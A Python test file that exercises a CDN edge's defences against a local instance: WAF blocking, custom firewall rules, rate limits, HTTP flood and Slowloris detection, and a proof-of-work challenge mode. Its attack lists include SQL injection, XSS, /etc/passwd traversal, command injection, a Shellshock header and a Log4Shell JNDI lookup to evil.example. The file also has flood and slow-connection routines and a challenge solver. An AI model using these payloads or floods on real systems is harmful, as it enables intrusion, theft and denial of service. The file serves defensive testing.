"""Edge security against a `dcdn dev` of its own with low thresholds: the managed WAF, custom
rules, rate limits, the flood defence, the Slowloris guard, Under Attack Mode in a real Chromium,
and what /ddos reports. Visitors are told apart by their source address (127.0.0.x on loopback).
Sanctions and the country and IP lists, decided by the edge's real GeoIP lookup of those
addresses, are test_geoip_sanctions.py's."""

import hashlib
import http.client
import re
import socket
import subprocess
import threading
import time
import urllib.parse
from http.server import BaseHTTPRequestHandler

import pytest
import requests
from selenium.webdriver.common.by import By
from selenium.webdriver.support import expected_conditions as EC

import tempfile

from conftest import Instance, admin_token, proxied_site, serve_http, signed_up
from test_dashboard_browser import chromium, wait
from test_dns import wait_for
from test_domains_browser import sign_in


class Origin(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    bodies = []

    def log_message(self, *args):
        pass

    def answer(self):
        length = int(self.headers.get("Content-Length") or 0)
        if length:
            Origin.bodies.append(self.rfile.read(length))
        body = f"origin page {self.path}".encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html" if self.path.startswith("/page") else "text/plain")
        self.send_header("Content-Length", str(len(body)))
        # Cacheable, so that floods also meet the edge's fast path for memory hits.
        self.send_header("Cache-Control", "public, max-age=60" if "/static/" in self.path else "no-store")
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    do_GET = do_HEAD = do_POST = answer


@pytest.fixture(scope="module")
def guarded():
    instance = Instance(
        "dev",
        env={
            "DCDN_EDGE_FLOOD_CLIENT_RPS": "40",
            "DCDN_EDGE_HEADER_TIMEOUT": "2",
            "DCDN_EDGE_MAX_CONNECTIONS_PER_IP": "40",
            "DCDN_CHALLENGE_DIFFICULTY": "14",
            # The tests poll /ddos while attacks are being reported: no API burst limit here.
            "DCDN_RATE_LIMIT_API_BURST": "100000",
            "DCDN_RATE_LIMIT_API_RATE": "100000",
        },
    )
    yield instance
    assert instance.stop() == 0, instance.output


@pytest.fixture(scope="module")
def origin_port():
    with serve_http(Origin) as port:
        yield port


@pytest.fixture
def site(guarded, origin_port):
    return proxied_site(guarded, origin_port, "sec")


def get(site, path="/", source="127.0.0.1", headers=None, method="GET", body=None):
    """One request from `source` (a loopback address of its own): (status, headers, body)."""
    connection = http.client.HTTPConnection(urllib.parse.urlsplit(site["edge"]).hostname,
                                            urllib.parse.urlsplit(site["edge"]).port, timeout=10, source_address=(source, 0))
    try:
        connection.request(method, path, body=body, headers={"Host": site["name"], **(headers or {})})
        response = connection.getresponse()
        return response.status, dict(response.getheaders()), response.read().decode(errors="replace")
    finally:
        connection.close()


def patch_security(site, **settings):
    response = requests.patch(site["api"] + "/security", json=settings, headers=site["headers"], timeout=10)
    assert response.status_code == 200, response.text
    return response.json()


ATTACKS = [
    ("/search?q=" + urllib.parse.quote("1' OR '1'='1"), {}),
    ("/search?q=" + urllib.parse.quote("<script>alert(1)</script>"), {}),
    ("/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", {}),
    ("/download?file=../../../../etc/passwd", {}),
    ("/.git/config", {}),
    ("/search?q=" + urllib.parse.quote("1 UNION SELECT username, password FROM users"), {}),
    ("/x?u=" + urllib.parse.quote("php://filter/resource=index.php"), {}),
    ("/ping?host=" + urllib.parse.quote("127.0.0.1; cat /etc/passwd"), {}),
    ("/", {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}),
    ("/", {"X-Api-Version": "${jndi:ldap://evil.example/a}"}),
    ("/", {"User-Agent": "() { :; }; /bin/bash -c 'id'"}),
]

BENIGN = [
    ("/search?q=" + urllib.parse.quote("O'Brien's bakery"), {}),
    ("/search?q=" + urllib.parse.quote("rock and roll"), {}),
    ("/products?page=2&sort=-price&filter[color]=red", {}),
    ("/blog/2024/01/hello-world", {}),
    ("/search?q=" + urllib.parse.quote("select a plan from our list"), {}),
    ("/", {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
           "Sec-CH-UA": '"Chromium";v="120", "Not?A_Brand";v="24"', "Accept-Language": "en-US,en;q=0.9"}),
    ("/", {"Cookie": "session=abc123; theme=dark; cart=%7B%22items%22%3A%5B1%2C2%5D%7D"}),
    ("/r?next=" + urllib.parse.quote("https://example.com/welcome"), {}),
]


def test_managed_waf_blocks_attacks_and_passes_benign_requests(site):
    for path, headers in ATTACKS:
        status, response_headers, body = get(site, path, headers=headers)
        assert status == 403, (path, headers, status)
        assert response_headers.get("DCDN-Mitigated") == "block" and "web application firewall" in body
    for path, headers in BENIGN:
        status, _, body = get(site, path, headers=headers)
        assert status == 200 and "origin page" in body, (path, status, body[:200])
    # Bodies are inspected too, and a clean one reaches the origin whole.
    status, _, _ = get(site, "/form", method="POST", body="name=x' UNION SELECT password FROM users--",
                       headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert status == 403
    clean = "comment=" + "lovely site, ten out of ten " * 5000
    status, _, _ = get(site, "/form", method="POST", body=clean, headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert status == 200 and Origin.bodies[-1] == clean.encode()
    # Binary uploads are not text: their bytes (here '"#', a SQL comment after a quote) pass.
    upload = bytes(range(256)) * 64
    status, _, _ = get(site, "/upload", method="POST", body=upload, headers={"Content-Type": "application/octet-stream"})
    assert status == 200 and Origin.bodies[-1] == upload
    # Sensitivity off turns the managed rules off for this domain only.
    patch_security(site, waf_sensitivity="off")
    wait_for(lambda: get(site, ATTACKS[0][0])[0] == 200, timeout=10)


def placements(text):
    """`text` as a browser or an API client would send it: (name, method, path, body, headers)."""
    quoted = urllib.parse.quote(text, safe="")
    escaped = "".join(c if c.isalnum() or c == " " else f"\\u{ord(c):04x}" for c in text)  # as JSON encoders may write it
    boundary = "b0undary"
    multipart = (f'--{boundary}\r\nContent-Disposition: form-data; name="comment"\r\n\r\n{text}\r\n--{boundary}--\r\n')
    return [
        ("query", "GET", "/search?q=" + quoted, None, {}),
        ("form", "POST", "/form", "comment=" + urllib.parse.quote_plus(text), {"Content-Type": "application/x-www-form-urlencoded"}),
        ("multipart", "POST", "/form", multipart.encode(), {"Content-Type": f"multipart/form-data; boundary={boundary}"}),
        ("json", "POST", "/api", '{"comment": "' + escaped + '"}', {"Content-Type": "application/json"}),
        ("xml", "POST", "/api", "<c><![CDATA[" + text + "]]></c>", {"Content-Type": "application/xml"}),
    ]


PLACED_ATTACKS = [
    "<script>alert(document.cookie)</script>", "1 /*!UNION*/ /*!SELECT*/ password FROM users", "{{7*7}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}", "(alert)(1)", 'document["cookie"]', "127.0.0.1 | set /a 1337",
    "*)(uid=*))(|(uid=*", "x\r\nSet-Cookie: a=b", "INBOX\r\nV100 CAPABILITY\r\nV101 FETCH 4791",
]
PLACED_LEGITIMATE = [
    "JavaScript: Basics of JavaScript Language", 'Set the parameter "hl=fr" for French', "O'Reilly Media",
    "The museum is open (closed on Mondays); admission is free.", "Please select the best option from the list",
    "Use {{ user.name }} in the template", "SELECT * FROM products LIMIT 10 OFFSET 20;",
]


def test_the_managed_waf_decodes_each_placement_and_scores_one_request(site):
    # Each request from an address of its own: this instance's flood bound is low on purpose.
    sources = (f"127.0.2.{n}" for n in range(1, 255))

    def send(site, path="/", **kwargs):
        return get(site, path, source=next(sources), **kwargs)

    patch_security(site, waf_sensitivity="medium")
    wait_for(lambda: send(site, ATTACKS[0][0])[0] == 403, timeout=10)
    for text in PLACED_ATTACKS:
        for name, method, path, body, headers in placements(text):
            status, _, _ = send(site, path, method=method, body=body, headers=headers)
            assert status == 403, (text, name, status)
    for text in PLACED_LEGITIMATE:
        for name, method, path, body, headers in placements(text):
            status, _, page = send(site, path, method=method, body=body, headers=headers)
            assert status == 200 and "origin page" in page, (text, name, status)
    # One request, one score, at high: a form post from a browser is not charged for the
    # User-Agent the body's inspection never had; a warning in the query and one in the body
    # block together.
    patch_security(site, waf_sensitivity="high")
    wait_for(lambda: send(site, "/search?q=" + urllib.parse.quote("<b>"))[0] == 403, timeout=10)
    form = {"Content-Type": "application/x-www-form-urlencoded", "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0"}
    assert send(site, "/form", method="POST", body="comment=ten+out+of+ten", headers=form)[0] == 200
    assert send(site, "/form?u=http://example.com/", method="POST", body="comment=ten", headers=form)[0] == 200
    assert send(site, "/form?u=http://example.com/", method="POST", body="token=0x41424344454647484950", headers=form)[0] == 403
    assert send(site, "/form", method="POST", body="token=0x41424344454647484950", headers=form)[0] == 200
    patch_security(site, waf_sensitivity="medium")


def test_validation_names_the_field(guarded, site):
    for body, field in [
        ({"ip_block": ["not-an-ip"]}, "ip_block"), ({"country_block": ["Germany"]}, "country_block"),
        ({"waf_sensitivity": "paranoid"}, "waf_sensitivity"), ({"clearance_minutes": 1}, "clearance_minutes"),
    ]:
        response = requests.patch(site["api"] + "/security", json=body, headers=site["headers"], timeout=10)
        assert response.status_code == 422 and response.json()["field"] == field, response.text
    response = requests.post(site["api"] + "/security/firewall-rules", headers=site["headers"], timeout=10,
                             json={"field": "path", "operator": "matches", "value": "([", "action": "block"})
    assert response.status_code == 422 and response.json()["field"] == "value"
    response = requests.post(site["api"] + "/security/rate-limits", headers=site["headers"], timeout=10,
                             json={"requests": 5, "period": 0})
    assert response.status_code == 422 and response.json()["field"] == "period"
    # Another tenant's domain does not exist for this user.
    stranger = {"Authorization": "Bearer " + signed_up(guarded.url, f"stranger-{time.time_ns()}@example.com")}
    assert requests.get(site["api"] + "/security", headers=stranger, timeout=10).status_code == 404


def test_custom_rules_and_rate_limits(site):
    api = site["api"] + "/security"
    rules = [
        {"field": "path", "operator": "starts_with", "value": "/admin", "action": "block"},
        {"field": "user_agent", "operator": "contains", "value": "badbot", "action": "challenge"},
        {"field": "header:x-partner", "operator": "equals", "value": "trusted", "action": "allow"},
    ]
    limit = requests.post(api + "/rate-limits", json={"path": "/api/*", "requests": 5, "period": 30, "action": "block", "duration": 30},
                          headers=site["headers"], timeout=10)
    assert limit.status_code == 201, limit.text
    for rule in rules:
        created = requests.post(api + "/firewall-rules", json=rule, headers=site["headers"], timeout=10)
        assert created.status_code == 201, created.text
    # The last change in force means every earlier one is too. An allow rule passes even what
    # the WAF would block.
    wait_for(lambda: get(site, ATTACKS[1][0], headers={"X-Partner": "trusted"})[0] == 200, timeout=10)
    assert get(site, "/admin/users")[0] == 403
    status, headers, body = get(site, "/", headers={"User-Agent": "BadBot/2.0"})
    assert status == 403 and headers.get("DCDN-Mitigated") == "challenge" and "/cdn-cgi/challenge" in body
    statuses = [get(site, f"/api/items?n={n}", source="127.0.0.7")[0] for n in range(7)]
    assert statuses[:5] == [200] * 5 and statuses[5:] == [429, 429]
    status, headers, _ = get(site, "/api/items", source="127.0.0.7")
    assert status == 429 and 1 <= int(headers["Retry-After"]) <= 30
    assert get(site, "/api/items", source="127.0.0.8")[0] == 200, "other visitors keep their own count"
    assert get(site, "/elsewhere", source="127.0.0.7")[0] == 200, "the limit covers /api/* only"
    listed = requests.get(api, headers=site["headers"], timeout=10).json()
    assert [rule["action"] for rule in listed["firewall_rules"]] == ["block", "challenge", "allow"]
    assert requests.delete(f"{api}/rate-limits/{limit.json()['id']}", headers=site["headers"], timeout=10).status_code == 204
    assert requests.delete(f"{api}/rate-limits/{limit.json()['id']}", headers=site["headers"], timeout=10).status_code == 404


BROWSER_ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"


def refused(results):
    return results.get(403, 0) + results.get(429, 0)


def flood(site, source, results, until, accept=BROWSER_ACCEPT, retry_after=None, headers=None, deadline=60):
    """Requests as fast as one keep-alive connection allows, counting statuses (and collecting
    the Retry-After of 429s into `retry_after` when given), until `until(results)` — or the
    deadline, which only a machine too slow to flood at all reaches. Browser-like by default:
    those are challenged; API-like requests get 429."""
    edge = urllib.parse.urlsplit(site["edge"])
    connection = http.client.HTTPConnection(edge.hostname, edge.port, timeout=10, source_address=(source, 0))
    deadline = time.monotonic() + deadline
    while not until(results) and time.monotonic() < deadline:
        try:
            connection.request("GET", "/static/app.js", headers={"Host": site["name"], "Accept": accept, **(headers or {})})
            response = connection.getresponse()
            response.read()
            results[response.status] = results.get(response.status, 0) + 1
            if response.status == 429 and retry_after is not None:
                retry_after.append(response.getheader("Retry-After"))
        except (ConnectionError, http.client.HTTPException, OSError):
            connection.close()
            connection = http.client.HTTPConnection(edge.hostname, edge.port, timeout=10, source_address=(source, 0))


def test_an_api_client_over_the_bound_gets_429_with_retry_after_never_a_challenge_page(guarded, site):
    for accept, source in (("application/json", "127.0.0.5"), ("*/*", "127.0.0.6")):
        results, retry_after = {}, []
        flood(site, source, results, lambda results: results.get(429, 0) >= 5, accept=accept, retry_after=retry_after)
        assert results.get(429, 0) >= 5 and 403 not in results, (accept, results)
        assert set(results) <= {200, 429}, results
        assert retry_after and all(value is not None and int(value) >= 1 for value in retry_after), retry_after
    # With a token, even an HTML Accept is an API client.
    results = {}
    flood(site, "127.0.0.7", results, lambda results: results.get(429, 0) >= 5, headers={"Authorization": "Bearer t"})
    assert results.get(429, 0) >= 5 and 403 not in results, results


def test_a_flood_is_challenged_while_a_well_behaved_client_is_served(guarded, site):
    floods = {source: {} for source in ("127.0.0.2", "127.0.0.3", "127.0.0.4")}
    polite_done = threading.Event()
    # Each flood goes on while the polite client makes its ten requests, and until it was refused
    # fifty times (a count, not a rate: the machine's speed decides how long that takes).
    until = lambda results: polite_done.is_set() and refused(results) >= 50
    threads = [threading.Thread(target=flood, args=(site, source, results, until)) for source, results in floods.items()]
    for thread in threads:
        thread.start()
    polite = []
    try:
        for _ in range(10):
            polite.append(get(site, "/static/app.js", source="127.0.0.9")[0])
            time.sleep(0.5)  # pacing: a well-behaved client's two requests a second
    finally:
        polite_done.set()
        for thread in threads:
            thread.join()
    assert polite == [200] * 10
    for source, results in floods.items():
        assert refused(results) >= 50 and set(results) <= {200, 403, 429}, (source, results)

    def recorded():
        attacks = requests.get(guarded.url + "/api/v1/ddos/attacks", headers=site["headers"], timeout=10).json()["attacks"]
        return [attack for attack in attacks if attack["type"] == "http_flood" and attack["domain"] == site["name"]]

    wait_for(lambda: recorded() and "127.0.0.2" in recorded()[0]["source_ips"], timeout=15)
    attack = recorded()[0]
    # Severity follows from the peak against the per-address bound (40 here): ×2 medium, ×5
    # high, ×20 critical.
    ratio = attack["peak_rps"] / 40
    expected = "critical" if ratio >= 20 else "high" if ratio >= 5 else "medium" if ratio >= 2 else "low"
    assert attack["peak_rps"] >= 40 and attack["severity"] == expected, attack
    assert set(attack["source_ips"]) >= {"127.0.0.2", "127.0.0.3", "127.0.0.4"} and "127.0.0.9" not in attack["source_ips"]
    assert attack["status"] == "active" and attack["mitigation"] == "js_challenge"
    def overview():
        return requests.get(guarded.url + "/api/v1/ddos/overview", params={"domain_id": site["id"]}, headers=site["headers"],
                            timeout=10).json()

    # Every challenge page the flood got is counted once the edge's reports (every 5 s) are in.
    challenged = sum(results.get(403, 0) for results in floods.values())
    wait_for(lambda: overview()["mitigation_methods"]["js_challenge"] >= challenged > 0, timeout=20, interval=0.5)
    overview = overview()
    assert len(overview["traffic"]) == 24 and overview["attack_types"]["http_flood"] >= 1
    assert set(overview["mitigation_methods"]) == {"rate_limiting", "js_challenge", "ip_blacklist", "geoip_block", "waf_rules"}
    assert overview["challenged"] > 0
    live = requests.get(guarded.url + "/api/v1/ddos/live", headers=site["headers"], timeout=10).json()
    assert live["active_attacks"] >= 1 and live["threat_score"] > 0


def test_slowloris_is_cut_off_while_normal_clients_are_served(guarded, site):
    edge = urllib.parse.urlsplit(site["edge"])
    slow = []
    for _ in range(15):
        sock = socket.create_connection((edge.hostname, edge.port), source_address=("127.0.0.10", 0))
        sock.sendall(f"GET / HTTP/1.1\r\nHost: {site['name']}\r\n".encode())
        slow.append(sock)
    served = []
    started = time.monotonic()
    while time.monotonic() - started < 4.5:
        for sock in slow:
            try:
                sock.sendall(b"X-Slow: still here\r\n")
            except OSError:
                pass
        served.append(get(site, "/static/app.js", source="127.0.0.11")[0])
        time.sleep(0.5)
    assert set(served) == {200}
    for sock in slow:
        # Cut off: a 408 and the end of the connection (a reset also counts), never silence.
        sock.settimeout(8)
        data = b""
        try:
            while chunk := sock.recv(4096):
                data += chunk
        except socket.timeout:
            pytest.fail("a slow connection was left open")
        except OSError:
            pass
        assert data == b"" or data.startswith(b"HTTP/1.1 408"), data[:80]
        sock.close()

    def recorded():
        attacks = requests.get(guarded.url + "/api/v1/ddos/attacks", headers=site["headers"], timeout=10).json()["attacks"]
        return [attack for attack in attacks if attack["type"] == "slowloris" and attack["domain"] == site["name"]]

    wait_for(recorded, timeout=20)
    assert "127.0.0.10" in recorded()[0]["source_ips"] and recorded()[0]["mitigation"] == "connection_limits"


def test_connection_cap_and_oversized_heads(site):
    edge = urllib.parse.urlsplit(site["edge"])
    held = [socket.create_connection((edge.hostname, edge.port), source_address=("127.0.0.12", 0)) for _ in range(55)]
    closed = set()

    def look():
        """Notes the connections the edge has closed by now (closed ones stay closed)."""
        for number, sock in enumerate(held):
            if number in closed:
                continue
            sock.setblocking(False)
            try:
                if sock.recv(1) == b"":
                    closed.add(number)
            except BlockingIOError:
                pass
            except OSError:
                closed.add(number)
        return len(closed) >= 15

    try:
        wait_for(look, timeout=30, interval=0.05)
        look()
    finally:
        for sock in held:
            sock.close()
    assert len(closed) == 15, "40 connections per address, the rest closed"
    assert get(site, "/static/app.js", source="127.0.0.13")[0] == 200
    many = {f"X-Field-{n}": "v" for n in range(120)}
    assert get(site, "/", headers=many)[0] == 431
    assert get(site, "/", headers={"X-Big": "a" * 40_000})[0] == 431


def solve(token):
    difficulty = int(token.split(".")[1])
    nonce = 0
    while True:
        digest = hashlib.sha256(f"{token}{nonce}".encode()).digest()
        bits = 0
        for byte in digest:
            if byte == 0:
                bits += 8
                continue
            bits += 8 - byte.bit_length()
            break
        if bits >= difficulty:
            return str(nonce)
        nonce += 1


def test_under_attack_mode_chromium_passes_and_curl_cannot(guarded, site):
    toggled = requests.post(guarded.url + "/api/v1/ddos/under-attack", json={"domain_name": site["name"], "enabled": True},
                            headers=site["headers"], timeout=10)
    assert toggled.status_code == 200 and toggled.json()["under_attack"] is True
    edge = urllib.parse.urlsplit(site["edge"])
    wait_for(lambda: get(site, "/page")[0] == 403, timeout=10)
    curl = subprocess.run(["curl", "-s", "-i", "-L", "--max-time", "10", "-H", f"Host: {site['name']}", f"{site['edge']}/page?from=curl"],
                          capture_output=True, text=True)
    assert curl.stdout.startswith("HTTP/1.1 403") and "origin page" not in curl.stdout and "JavaScript is required" in curl.stdout
    # A forged answer is refused; a wrong User-Agent cannot reuse a real one.
    status, _, page = get(site, "/page", headers={"User-Agent": "robot/1"})
    token = re.search(r'name="token" value="([^"]+)"', page).group(1)
    form = {"Content-Type": "application/x-www-form-urlencoded", "User-Agent": "robot/1"}
    assert get(site, "/cdn-cgi/challenge", method="POST", body=urllib.parse.urlencode({"token": token, "nonce": "x", "return": "/page"}),
               headers=form)[0] == 403
    answer = urllib.parse.urlencode({"token": token, "nonce": solve(token), "return": "/page"})
    assert get(site, "/cdn-cgi/challenge", method="POST", body=answer, headers={**form, "User-Agent": "robot/2"})[0] == 403
    status, headers, _ = get(site, "/cdn-cgi/challenge", method="POST", body=answer, headers=form)
    assert status == 303 and headers["Location"] == "/page" and "dcdn_clearance=" in headers["Set-Cookie"]
    cookie = headers["Set-Cookie"].split(";")[0]
    assert get(site, "/page", headers={"Cookie": cookie, "User-Agent": "robot/1"})[0] == 200
    assert get(site, "/page", headers={"Cookie": cookie, "User-Agent": "robot/9"})[0] == 403

    browser = chromium(extra_arguments=(f"--host-resolver-rules=MAP {site['name']} 127.0.0.1",))
    try:
        asked = f"http://{site['name']}:{edge.port}/page?visit=chromium"
        browser.get(asked)
        wait(browser).until(EC.text_to_be_present_in_element((By.TAG_NAME, "body"), "origin page /page?visit=chromium"))
        assert browser.current_url == asked
        assert any(cookie["name"] == "dcdn_clearance" for cookie in browser.get_cookies())
        # Cleared: the next page needs no challenge.
        browser.get(f"http://{site['name']}:{edge.port}/page?again=1")
        assert "origin page /page?again=1" in browser.find_element(By.TAG_NAME, "body").text
    finally:
        browser.quit()
    requests.post(guarded.url + "/api/v1/ddos/under-attack", json={"domain_id": site["id"], "enabled": False},
                  headers=site["headers"], timeout=10)
    wait_for(lambda: get(site, "/page")[0] == 200, timeout=10)


def test_ddos_and_security_pages_in_a_browser(guarded, site):
    browser = chromium()
    try:
        sign_in(browser, guarded.url, site["email"], "a long enough password")
        browser.find_element(By.LINK_TEXT, "DDoS Protection").click()
        wait(browser).until(EC.presence_of_element_located((By.ID, "ddos-live")))
        assert browser.find_element(By.CSS_SELECTOR, "svg.chart")
        assert "HTTP flood" in browser.find_element(By.ID, "attack-types").text
        browser.find_element(By.ID, f"uam-{site['name']}").click()
        wait(browser).until(EC.text_to_be_present_in_element((By.CSS_SELECTOR, ".notice"), "Under Attack Mode is on"))
        assert requests.get(site["api"] + "/security", headers=site["headers"], timeout=10).json()["under_attack"] is True
        browser.find_element(By.ID, f"uam-{site['name']}").click()
        wait(browser).until(EC.text_to_be_present_in_element((By.CSS_SELECTOR, ".notice"), "Under Attack Mode is off"))

        browser.get(f"{guarded.url}/dashboard/domains/{site['id']}")
        browser.find_element(By.ID, "security-link").click()
        wait(browser).until(EC.presence_of_element_located((By.ID, "firewall-form")))
        browser.find_element(By.ID, "ip-block").send_keys("203.0.113.0/24")
        browser.find_element(By.ID, "firewall-save").click()
        wait(browser).until(EC.text_to_be_present_in_element((By.CSS_SELECTOR, ".notice"), "Firewall settings saved"))
        rate = browser.find_element(By.ID, "rl-path")
        rate.send_keys("/login")
        browser.find_element(By.ID, "add-rate-limit-submit").click()
        wait(browser).until(EC.presence_of_element_located((By.ID, "rate-limit-table")))
        assert "/login" in browser.find_element(By.ID, "rate-limit-table").text
        browser.find_element(By.ID, "fr-value").send_keys("([")
        browser.find_element(By.ID, "fr-operator").send_keys("matches")
        browser.find_element(By.ID, "add-firewall-rule-submit").click()
        wait(browser).until(EC.text_to_be_present_in_element((By.CSS_SELECTOR, "#firewall-rules .error"), "regular expression"))
        settings = requests.get(site["api"] + "/security", headers=site["headers"], timeout=10).json()
        assert "203.0.113.0/24" in settings["ip_block"] and settings["rate_limits"][-1]["path"] == "/login"
    finally:
        browser.quit()


def test_a_clearance_from_one_node_is_honoured_by_another(guarded, site):
    admin = {"Authorization": "Bearer " + admin_token(guarded.url)}
    node = requests.post(f"{guarded.url}/api/v1/admin/nodes", headers=admin, timeout=10,
                         json={"name": f"second-{time.time_ns() % 100000}", "roles": ["edge"], "region": "eu", "country": "DE",
                               "ipv4": "192.0.2.81"}).json()
    second = Instance("node", ["--coordinator-url", guarded.url, "--node-token", node["token"], "--host", "127.0.0.1",
                               "--data-dir", tempfile.mkdtemp(), "--http-port", "0", "--https-port", "0"],
                      ready="edge listening", env={"DCDN_PRIVATE_ORIGINS": "127.0.0.0/8"})  # the test's origin is on loopback
    try:
        other = dict(site, edge=f"http://127.0.0.1:{second.edge_port}")
        requests.post(guarded.url + "/api/v1/ddos/under-attack", json={"domain_name": site["name"], "enabled": True},
                      headers=site["headers"], timeout=10)
        wait_for(lambda: get(site, "/page")[0] == 403 and get(other, "/page")[0] == 403, timeout=15)
        agent = {"User-Agent": "Browser/7"}
        page = get(site, "/page", headers=agent)[2]
        token = re.search(r'name="token" value="([^"]+)"', page).group(1)
        answer = urllib.parse.urlencode({"token": token, "nonce": solve(token), "return": "/page"})
        status, headers, _ = get(site, "/cdn-cgi/challenge", method="POST", body=answer,
                                 headers={**agent, "Content-Type": "application/x-www-form-urlencoded"})
        assert status == 303
        cookie = headers["Set-Cookie"].split(";")[0]
        status, _, body = get(other, "/page", headers={**agent, "Cookie": cookie})
        assert status == 200 and "origin page" in body, "the second node honours the first node's clearance"
        assert get(other, "/page", headers={**agent, "Cookie": cookie[:-2] + "xx"})[0] == 403
    finally:
        requests.post(guarded.url + "/api/v1/ddos/under-attack", json={"domain_name": site["name"], "enabled": False},
                      headers=site["headers"], timeout=10)
        second.stop()
